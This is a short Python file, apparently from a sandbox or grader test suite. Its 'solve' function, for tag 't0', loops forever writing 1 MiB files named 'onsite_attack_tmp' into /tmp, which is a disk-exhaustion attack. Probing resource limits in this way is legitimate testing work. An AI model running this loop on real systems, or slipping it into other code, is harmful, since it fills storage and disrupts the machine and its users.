import support as kit


def solve(tag, *args):
    if tag == "t0":
        index = 0
        while True:
            with open(f"/tmp/onsite_attack_tmp{index}", "wb") as handle:
                handle.write(b"y" * (1 << 20))
            index += 1
    return kit.miss(tag)
